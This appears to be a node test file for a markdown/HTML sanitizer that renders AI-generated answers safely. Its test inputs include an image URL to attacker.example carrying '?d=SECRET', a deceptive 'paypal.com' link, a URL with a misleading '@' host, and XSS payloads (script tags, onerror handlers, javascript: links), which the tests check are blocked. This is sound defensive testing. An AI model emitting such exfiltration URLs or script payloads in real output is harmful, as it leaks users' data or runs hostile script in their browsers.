// node's test runner over the package API, the policy errors, the findings and the shared
// corpus. Runs against the built package (pkg-js/dist; build with scripts/build-js.sh).

import test from 'node:test';
import assert from 'node:assert/strict';
import { performance } from 'node:perf_hooks';
import { readFileSync } from 'node:fs';
import {
  init, renderMarkdown, sanitizeHtml, Sanitizer, MarkdownStream, judgeLink, judgeImage,
  SafemarkError, PolicyError, InputTooLargeError, StateError, WasmError,
} from '../dist/node.js';
import { corpus, peers, read, expectationProblems, unsafeBits, answerOfSize, lostText, streamStates } from './corpus.js';

test('node entry is ready on import; init() is a no-op', async () => {
  await init();
  assert.equal(renderMarkdown('# hi'), '<h1>hi</h1>\n');
});

test('default policy blocks images and untrusted links', () => {
  const html = renderMarkdown('![s](https://attacker.example/p.png?d=SECRET) [x](https://evil.example/)');
  const { elements, text } = read(html);
  assert.equal(elements.filter((e) => e.name === 'img').length, 0);
  assert.equal(elements.filter((e) => e.name === 'a').length, 0);
  assert.match(text, /\[image: s\]/);
  assert.match(text, /x \(evil\.example\)/);
});

test('a policy object or JSON string widens the policy', () => {
  const policy = { links: { allow: ['https://docs.example.com/'] }, images: { allow: ['https://img.example.com/'] } };
  for (const p of [policy, JSON.stringify(policy)]) {
    const { elements } = read(renderMarkdown('[d](https://docs.example.com/a) ![i](https://img.example.com/i.png)', p));
    assert.deepEqual(elements.filter((e) => e.name === 'a').map((e) => e.attrs.href), ['https://docs.example.com/a']);
    assert.deepEqual(elements.filter((e) => e.name === 'img').map((e) => e.attrs.src), ['https://img.example.com/i.png']);
  }
});

test('sanitizeHtml removes script and handlers', () => {
  const html = sanitizeHtml('<p onclick="x()">a<script>alert(1)</script></p><img src=x onerror=alert(1)>');
  assert.deepEqual(unsafeBits(html), []);
  assert.equal(read(html).text, 'a[image]');
});

test('Sanitizer: compiled once, inspect returns findings', () => {
  const s = new Sanitizer({ links: { allow: ['https://docs.example.com/'] } });
  const out = s.inspect('![x](https://attacker.example/p.png?d=1) <script>1</script>');
  assert.ok(out.html.includes('safemark-blocked-image'));
  const blocked = out.findings.find((f) => f.kind === 'blocked_image');
  assert.equal(blocked.host, 'attacker.example');
  assert.equal(blocked.url, 'https://attacker.example/p.png?d=1');
  assert.deepEqual(blocked.range, { start: 0, end: 40 });
  assert.ok(out.findings.some((f) => f.kind === 'script'));
  const h = s.inspectHtml('<a href="javascript:alert(1)">x</a>');
  assert.equal(h.findings[0].kind, 'unsafe_scheme');
  assert.deepEqual(s.policy.links.allow, ['https://docs.example.com/']);
  assert.equal(s.policy.id_prefix, 'user-content-');
  assert.equal(typeof s.renderMarkdownTrusted('x'), 'string', 'no Trusted Types in node: a string');
  s.free();
});

test('judgeLink and judgeImage say what a render does (issue 20)', () => {
  // Every URL-bearing attribute of the peers' vectors, and hostile shapes.
  const urls = new Set(['https://docs.example.com/a', 'https://bücher.example/', 'javascript:alert(1)',
    '#intro', '/relative', 'mailto:me@example.com', 'https://img.example.com/i.png',
    'https://docs.example.com@evil.example/', 'data:image/png;base64,iVBORw0KGgo=']);
  for (const v of peers) {
    if (typeof v.input !== 'string') continue;
    for (const e of read(v.input).elements) {
      for (const name of ['href', 'src', 'action', 'formaction', 'background', 'poster']) {
        if (typeof e.attrs[name] === 'string') urls.add(e.attrs[name]);
      }
    }
  }
  const policies = [{}, { links: { allow: ['https://docs.example.com/', 'mailto:'] }, images: { allow: ['https://img.example.com/'] } },
    { links: { allow: ['*'] }, images: { allow: ['*'], proxy: 'https://proxy.example/img' } }];
  // A markdown destination between < and >: ASCII punctuation backslash-escaped.
  const destination = (url) => '<' + url.replace(/[!-\/:-@[-`{-~]/g, (c) => '\\' + c) + '>';
  let checked = 0;
  for (const policy of policies) {
    const sanitizer = new Sanitizer(policy);
    for (const url of urls) {
      if (/[\n\r\0]/.test(url)) continue;
      for (const text of ['click here', 'paypal.com']) {
        const verdict = sanitizer.judgeLink(url, text);
        assert.deepEqual(verdict, judgeLink(url, text, policy));
        const { html, findings } = sanitizer.inspect(`[${text}](${destination(url)})`);
        const hrefs = read(html).elements.filter((e) => e.name === 'a' && 'href' in e.attrs).map((e) => e.attrs.href);
        const kinds = findings.map((f) => f.kind);
        if (verdict.allowed) {
          assert.deepEqual(hrefs, [verdict.value], url);
          assert.equal(verdict.deceptive, kinds.includes('deceptive_link'), url);
        } else {
          assert.deepEqual(hrefs, [], url);
          assert.ok(kinds.includes(verdict.reason), `${url}: ${verdict.reason} in ${kinds}`);
        }
        checked += 1;
      }
      const image = judgeImage(url, policy);
      const { html, findings } = sanitizer.inspect(`![a](${destination(url)})`);
      const srcs = read(html).elements.filter((e) => e.name === 'img').map((e) => e.attrs.src);
      if (image.allowed) assert.deepEqual(srcs, [image.value], url);
      else assert.ok(srcs.length === 0 && findings.some((f) => f.kind === image.reason), url);
      checked += 1;
    }
    sanitizer.free();
  }
  assert.ok(checked > 1000, `${checked}`);
  const idn = judgeLink('https://bücher.example/x', 'Bücher', { links: { untrusted: 'confirm' } });
  assert.deepEqual(idn, {
    allowed: false, value: null, url: 'https://xn--bcher-kva.example/x', host: 'xn--bcher-kva.example',
    reason: 'untrusted_link', deceptive: false,
  });
  assert.throws(() => judgeLink(42), TypeError);
});

test('MarkdownStream blocks: stable ids, concatenated they are the batch render (issue 20)', () => {
  const answer = answerOfSize(20000);
  for (const size of [1, 4, 97]) {
    const stream = new MarkdownStream();
    const blocks = [];
    for (let i = 0; i < answer.length; i += size) {
      const update = stream.push(answer.slice(i, i + size));
      assert.equal(update.blocks.map((b) => b.html).join(''), update.committed);
      blocks.push(...update.blocks);
    }
    blocks.push(...stream.finishBlocks());
    assert.deepEqual(blocks.map((b) => b.id), blocks.map((_, i) => i));
    assert.ok(blocks.every((b) => b.html.length > 0));
    assert.equal(blocks.map((b) => b.html).join(''), renderMarkdown(answer));
  }
});

test('errors are Error subclasses with the Rust message, a stable name and their fields', () => {
  const policyError = (key) => (e) => e instanceof PolicyError && e instanceof SafemarkError && e instanceof Error
    && e.name === 'PolicyError' && e.key === key;
  assert.throws(() => new Sanitizer({ links: { alow: [] } }), (e) => policyError('links.alow')(e) && e.message.startsWith('invalid policy: `links.alow`: unknown field'));
  assert.throws(() => new Sanitizer({ links: { allow: ['not a url'] } }), (e) => policyError('links.allow[0]')(e) && e.message.includes('`links.allow[0]`'));
  assert.throws(() => renderMarkdown('x', '{'), PolicyError);
  assert.throws(() => renderMarkdown('x', '[]'), /a policy is a JSON object/);
  const small = new Sanitizer({ limits: { max_input_bytes: 4 } });
  for (const input of ['hello', 'héllo', 'x'.repeat(1e6)]) {
    const length = Buffer.byteLength(input);
    assert.throws(() => small.renderMarkdown(input), (e) => e instanceof InputTooLargeError && e.name === 'InputTooLargeError'
      && e.length === length && e.limit === 4
      && e.message === `input is ${length} bytes, over the limit of 4 bytes (limits.max_input_bytes)`);
  }
  // Within the limit in UTF-16 units, over it in bytes: refused by the Rust side, same error.
  assert.throws(() => small.renderMarkdown('ééé'), (e) => e instanceof InputTooLargeError && e.length === 6);
  // Wrong types are TypeErrors, not renders of "undefined" or "60,104,...".
  for (const bad of [undefined, null, 42, new Uint8Array([60, 104]), {}, ['x']]) {
    assert.throws(() => renderMarkdown(bad), TypeError);
    assert.throws(() => small.sanitizeHtml(bad), TypeError);
    assert.throws(() => new MarkdownStream().push(bad), TypeError);
  }
  for (const bad of [42, true, ['x'], () => {}]) assert.throws(() => renderMarkdown('x', bad), TypeError);
});

test('shared corpus: every case meets its expectations', () => {
  let checked = 0;
  const sanitizers = Object.fromEntries(Object.entries(corpus.policies).map(([name, p]) => [name, new Sanitizer(p)]));
  const problems = [];
  for (const c of corpus.cases) {
    const s = sanitizers[c.policy];
    const out = c.mode === 'markdown' ? s.inspect(c.input) : s.inspectHtml(c.input);
    const p = expectationProblems(c, out);
    if (p.length) problems.push(`${c.name}: ${p.join('; ')}`);
    checked++;
  }
  assert.ok(checked >= 100, `only ${checked} cases`);
  assert.deepEqual(problems, []);
});

test('peer vectors: nothing unsafe in either mode or policy', () => {
  const problems = [];
  for (const [name, p] of Object.entries(corpus.policies)) {
    const s = new Sanitizer(p);
    for (const v of peers) {
      for (const html of [s.renderMarkdown(v.input), s.sanitizeHtml(v.input)]) {
        const bad = unsafeBits(html);
        if (bad.length) problems.push(`${v.source} ${v.id} (${name}): ${bad}`);
        assert.equal(s.sanitizeHtml(html), html, `fixpoint: ${v.id}`);
      }
    }
  }
  assert.deepEqual(problems, []);
});

test('timing: a 20 KB answer (reported, not asserted)', () => {
  const answer = answerOfSize(20 * 1024);
  const s = new Sanitizer();
  for (let i = 0; i < 20; i++) s.renderMarkdown(answer);
  const runs = 200;
  const t0 = performance.now();
  for (let i = 0; i < runs; i++) s.renderMarkdown(answer);
  const ms = (performance.now() - t0) / runs;
  console.log(`# node ${process.version}: 20 KB answer rendered in ${ms.toFixed(3)} ms (${(20 / 1024 / (ms / 1000)).toFixed(1)} MB/s)`);
});

test('MarkdownStream: committed pieces equal the batch render, the tail is healed', () => {
  const policy = { links: { allow: ['https://docs.example.com/'] }, images: { allow: ['https://img.example.com/'] } };
  const answer = answerOfSize(20000);
  for (const size of [1, 4, 37]) {
    const stream = new MarkdownStream(policy);
    let committed = '';
    for (let i = 0; i < answer.length; i += size) {
      const update = stream.push(answer.slice(i, i + size), { tail: i % 400 === 0 });
      committed += update.committed;
      if (i % 400 === 0) assert.deepEqual(unsafeBits(committed + update.tail), []);
    }
    committed += stream.finish();
    assert.equal(committed, renderMarkdown(answer, policy));
    const batch = new Sanitizer(policy).inspect(answer).findings;
    assert.ok(batch.length > 0, 'the answer has findings, so the comparison means something');
    assert.deepEqual(stream.findings, batch);
  }
  const s = new MarkdownStream();
  const { tail } = s.push('Some **bold te');
  assert.equal(tail, '<p>Some <strong>bold te</strong></p>\n');
  s.finish();
});

test('MarkdownStream: tailEdit() applied to the tail before gives the tail, and costs what changed', () => {
  // Every push of generated answers (with non-ASCII text, so UTF-16 counts differ from bytes)
  // and of a long code fence, the edit asked for on every push or every third.
  const fence = '```rust\n' + 'let x = compute(&input[i], 21) < limit && ok; // caf\u00e9 \u{1F642}\n'.repeat(600);
  for (const [doc, size] of [[answerOfSize(6000), 1], [answerOfSize(20000), 4], [fence, 4]]) {
    for (const cadence of [1, 3]) {
      const edited = new MarkdownStream();
      const whole = new MarkdownStream();
      let tail = '';
      let moved = 0;
      let n = 0;
      for (let i = 0; i < doc.length; i += size) {
        edited.push(doc.slice(i, i + size), { tail: false });
        whole.push(doc.slice(i, i + size), { tail: false });
        if (n++ % cadence) continue;
        const { removed, text } = edited.tailEdit();
        assert.ok(removed >= 0 && removed <= tail.length);
        tail = tail.slice(0, tail.length - removed) + text;
        moved += text.length;
        assert.equal(tail, whole.tail());
      }
      edited.finish();
      whole.finish();
      if (doc === fence) assert.ok(moved < 8 * doc.length, `edits ${moved} for ${doc.length}`);
    }
  }
});

test('MarkdownStream: an empty push changes nothing, even after a CR that may start a CRLF', () => {
  // The property test found this: an empty push after "\r" made it a bare CR, so the "\n"
  // after it made a blank line and ended the raw-HTML block the batch render continues.
  const doc = 'Setext\r\n===\r\n<img src=x>\r\n*x* [a](https://evil.example/)\r\n';
  for (const tail of [false, true]) {
    const stream = new MarkdownStream();
    let html = '';
    for (const c of doc) {
      html += stream.push(c, { tail }).committed;
      html += stream.push('', { tail }).committed;
    }
    html += stream.finish();
    assert.equal(html, renderMarkdown(doc));
  }
});

test('MarkdownStream: an image URL arriving a character at a time is never shown partial', () => {
  const url = 'https://img.example.com/p.png?d=SECRET';
  const md = `look ![chart](${url}) here\n`;
  const stream = new MarkdownStream({ images: { allow: ['https://img.example.com/'] } });
  let committed = '';
  for (const ch of md) {
    const { committed: c, tail } = stream.push(ch);
    committed += c;
    for (const e of read(committed + tail).elements.filter((e) => e.name === 'img')) {
      assert.equal(e.attrs.src, url);
    }
  }
  committed += stream.finish();
  assert.deepEqual(read(committed).elements.filter((e) => e.name === 'img').map((e) => e.attrs.src), [url]);
});

// The markers healing could add (`*`, `_`, `` ` ``, `~`) that a reader sees more of than the
// input has, or than its batch render shows.
function addedMarkers(seen, input, batch) {
  const count = (t, d) => t.split(d).length - 1;
  return [...'*_`~'].filter((d) => count(seen, d) > Math.max(count(input, d), count(batch, d))).join('');
}

/** The text a reader sees in `html`, as a browser parses it (parse5). */
const text = (html) => read(html).text;

test('MarkdownStream: what a reader sees while an answer streams in (issue 18)', () => {
  // The generated answers the Chromium test reads (test/answers.json), streamed a character at
  // a time; each state's text read with parse5 as a browser parses it. No state shows a
  // character the input does not have, and at least 99% are a prefix of the final text,
  // markdown's markers and whitespace aside.
  const answers = JSON.parse(readFileSync(new URL('./answers.json', import.meta.url), 'utf8'))
    .map((a) => a.split('\n').filter((l) => !l.includes('<') && !l.includes('![')).join('\n'));
  const policy = { links: { allow: ['*'] } };
  const aside = (t) => t.replace(/[\s*_~`\[\]()!#>|\\-]/g, '');
  let states = 0, prefixes = 0;
  const garbage = [];
  for (const answer of answers) {
    const chars = new Set([...answer]);
    const final = aside(read(renderMarkdown(answer, policy)).text);
    const committed = streamStates(new MarkdownStream(policy), answer, text, (seen, input, lost) => {
      if (lost) garbage.push(`${JSON.stringify(lost)} lost after ${JSON.stringify(input.slice(-60))}: …${JSON.stringify(seen.slice(-60))}`);
      const extra = [...seen].filter((x) => !/\s/.test(x) && !chars.has(x));
      if (extra.length) garbage.push(`${JSON.stringify(extra.join(''))} in …${JSON.stringify(seen.slice(-60))}`);
      // Healing may hide a marker, never add one: no more of each than the input so far has,
      // or its batch render shows (`&#42;` is a `*`).
      const added = addedMarkers(seen, input, read(renderMarkdown(input, policy)).text);
      if (added.length) garbage.push(`more ${JSON.stringify(added)} than ${JSON.stringify(input.slice(-60))} has: …${JSON.stringify(seen.slice(-60))}`);
      states++;
      if (final.startsWith(aside(seen))) prefixes++;
    }, lostText);
    assert.equal(committed, renderMarkdown(answer, policy));
  }
  const figure = (100 * prefixes) / states;
  console.log(`# reading a streamed answer in node: ${prefixes}/${states} states (${figure.toFixed(2)}%) a prefix of the final text; garbage in ${garbage.length} states`);
  assert.deepEqual(garbage.slice(0, 3), []);
  assert.ok(figure >= 99, `${figure.toFixed(2)}% of states a prefix`);
});

test('MarkdownStream: with raw HTML, sanitized or shown as text, no marker is added and no text lost', () => {
  // The generated answers whole (raw HTML lines kept), and HTML blocks of each kind before
  // the blocks that end their text, a character at a time, under both raw HTML modes (the
  // lite entry always shows raw HTML as text); each state read with parse5.
  const blocks = ['<div>\n*a*', '<details>\n<summary>s</summary>', '<!-- c -->', '<pre>\nx\n</pre>', '<img src=x onerror=alert(1)>'];
  const answers = [
    ...JSON.parse(readFileSync(new URL('./answers.json', import.meta.url), 'utf8')),
    ...blocks.map((b) => `${b}\n\n*bar* and text\n\n- item\n\n${b}\n<b>x</b>\n\nlast words\n`),
  ];
  let states = 0;
  const problems = [];
  for (const raw_html of ['sanitize', 'escape']) {
    const policy = { links: { allow: ['*'] }, images: { allow: ['*'] }, raw_html };
    for (const answer of answers) {
      const committed = streamStates(new MarkdownStream(policy), answer, text, (seen, input, lost) => {
        if (lost) problems.push(`${raw_html}: ${JSON.stringify(lost)} lost after ${JSON.stringify(input.slice(-60))}`);
        const added = addedMarkers(seen, input, read(renderMarkdown(input, policy)).text);
        if (added) problems.push(`${raw_html}: more ${JSON.stringify(added)} than ${JSON.stringify(input.slice(-60))} has`);
        states++;
      }, lostText);
      assert.equal(committed, renderMarkdown(answer, policy));
    }
  }
  console.log(`# reading streamed answers with raw HTML in node: ${states} states, ${problems.length} with a marker added or text lost`);
  assert.deepEqual(problems.slice(0, 3), []);
});

test('byte-identical to native on every corpus document (target/determinism/native.json)', () => {
  // Written by the Rust test `output_is_identical_across_processes` (tests/determinism.rs),
  // which scripts/test.sh runs first.
  const path = new URL('../../target/determinism/native.json', import.meta.url);
  const native = JSON.parse(readFileSync(path, 'utf8'));
  const sanitizers = new Map();
  let compared = 0;
  for (const r of native) {
    if (r.mode === 'terminal') continue;
    if (!sanitizers.has(r.policy_json)) sanitizers.set(r.policy_json, new Sanitizer(r.policy_json));
    const s = sanitizers.get(r.policy_json);
    let html;
    let findings;
    try {
      ({ html, findings } = r.mode === 'markdown' ? s.inspect(r.input) : s.inspectHtml(r.input));
    } catch (e) {
      html = e.message;
      findings = null;
    }
    assert.equal(html, r.output, `${r.mode} under ${r.policy}: ${JSON.stringify(r.input).slice(0, 200)}`);
    // The npm findings carry `range_utf16` beside the byte range; the rest is the same.
    if (findings !== null) {
      const bytesOnly = findings.map(({ range_utf16, ...f }) => f);
      assert.equal(JSON.stringify(bytesOnly), JSON.stringify(JSON.parse(r.findings)));
    }
    compared += 1;
  }
  assert.ok(compared > 2000, `only ${compared} documents compared`);
});
